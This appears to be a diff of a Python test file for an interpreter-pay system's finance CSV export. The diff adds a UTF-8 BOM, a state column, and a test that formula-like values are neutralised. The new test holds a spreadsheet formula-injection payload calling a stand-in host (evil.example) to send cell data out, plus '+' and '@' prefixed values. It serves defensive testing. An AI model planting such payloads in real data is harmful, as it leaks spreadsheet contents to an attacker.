@@ -122,9 +122,9 @@ def test_profile_arriving_later_recomputes_with_taxes_and_names_the_supplier(wor
     feed(app, booking, auth)
     item = app.get_remuneration(INES, bid)["items"][0]
     assert (item["gst"], item["qst"], item["total"]) == ("4.10", "8.18", "94.28")
-    rows = list(csv.DictReader(io.StringIO(app.export_csv(COORD, "2024-11-03"))))
+    rows = list(csv.DictReader(io.StringIO(app.export_csv(COORD, "2024-11-03").removeprefix("\ufeff"))))
     assert rows == [{"interpreter_id": "UINES", "supplier_number": "F-1", "legal_name": "Ines Paie",
-                     "demande": "82.00", "distance": "0.00", "travel_time": "0.00",
+                     "state": "final", "demande": "82.00", "distance": "0.00", "travel_time": "0.00",
                      "phone_communications": "0.00", "words": "0.00", "other_fees": "0.00",
                      "extra_fees": "0.00", "subtotal": "82.00", "gst": "4.10", "qst": "8.18", "total": "94.28"}]
 
@@ -278,3 +278,24 @@ def test_a_validated_cancellation_is_final(world):
     item = app.get_remuneration(INES, bid)["items"][0]
     assert (item["kind"], item["total"]) == ("final", "10.25")
     assert app.events_since(0, 100)[-1]["data"]["kind"] == "final"
+
+
+def test_the_finance_export_neutralises_formulas_has_a_bom_and_marks_each_lines_state(world):
+    """A legal name =HYPERLINK(...), a supplier number +1 and accents; a final amount and a
+    provisional one of the same interpreter are two lines, each with its state."""
+    app, booking, auth = world
+    served(booking, "2024-11-05T16:00:00Z", "2024-11-05T11:00:00-05:00", "2024-11-05T13:00:00-05:00")
+    served(booking, "2024-11-06T16:00:00Z", "2024-11-06T11:00:00-05:00", "2024-11-06T13:00:00-05:00", close=False)
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Détails")'
+    auth.add("account-UINES", "ProfileUpdated", {"user_id": "UINES", "role": "interpreter", "financial": {
+        "legal_name": evil, "supplier_number": "+1", "gst_registered": False, "qst_registered": False}})
+    auth.add("account-UOTTO", "ProfileUpdated", {"user_id": "UOTTO", "role": "interpreter", "financial": {
+        "legal_name": "Hélène Lévesque-Côté", "supplier_number": "@F-9", "gst_registered": False}})
+    served(booking, "2024-11-07T16:00:00Z", "2024-11-07T11:00:00-05:00", "2024-11-07T13:00:00-05:00", who=OTTO)
+    feed(app, booking, auth)
+    text = app.export_csv(COORD, "2024-11-03")
+    assert text.startswith("\ufeffinterpreter_id,") and text.encode("utf-8")[:3] == b"\xef\xbb\xbf"
+    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert [(r["interpreter_id"], r["legal_name"], r["supplier_number"], r["state"], r["total"]) for r in rows] == [
+        ("UINES", "'" + evil, "'+1", "final", "82.00"), ("UINES", "'" + evil, "'+1", "provisional", "82.00"),
+        ("UOTTO", "Hélène Lévesque-Côté", "'@F-9", "final", "82.00")]
